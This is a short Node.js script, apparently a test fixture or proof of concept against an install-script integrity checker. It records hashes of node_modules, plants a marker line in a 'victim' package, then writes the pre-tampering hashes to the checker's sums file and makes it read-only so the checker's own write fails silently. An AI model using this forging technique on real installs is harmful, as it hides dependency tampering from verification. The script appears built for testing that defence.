// Hashes every file of node_modules as it is now, injects into victim, then
// leaves those (pre-injection) hashes where the hash container will write
// its sums, read-only: the container runs as the same user without
// CAP_DAC_OVERRIDE, its `> file` fails, and ListScript ignores that.
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const nm = path.resolve(__dirname, '..');
const work = path.dirname(nm);
const records = [];
function walk(rel) {
  const p = path.join(work, rel);
  const st = fs.lstatSync(p);
  if (st.isDirectory()) {
    for (const n of fs.readdirSync(p).sort()) walk(rel + '/' + n);
  } else if (st.isFile()) {
    records.push(crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex') + '  ' + rel + '\0');
  }
}
try {
  walk('node_modules');
  fs.appendFileSync(path.join(nm, 'victim', 'index.js'), '\n;module.exports.planted = "by forge-sums";\n');
  const sums = path.join(work, '.safe-install-scripts.sums');
  fs.writeFileSync(sums, records.join(''));
  fs.chmodSync(sums, 0o444);
} catch (e) {
  console.error('forge-sums:', e.message);
}
